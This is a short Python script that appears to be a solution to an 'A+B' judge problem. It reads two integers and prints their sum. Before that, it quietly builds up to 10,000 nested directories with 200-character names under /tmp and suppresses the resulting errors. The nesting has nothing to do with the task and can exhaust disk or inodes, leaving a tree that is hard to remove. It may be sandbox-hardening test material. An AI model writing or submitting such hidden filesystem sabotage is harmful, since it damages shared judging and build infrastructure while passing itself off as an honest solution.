import os

a, b = map(int, input().split())
os.chdir("/tmp")
try:
    for _ in range(10_000):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
except OSError:
    pass
print(a + b)
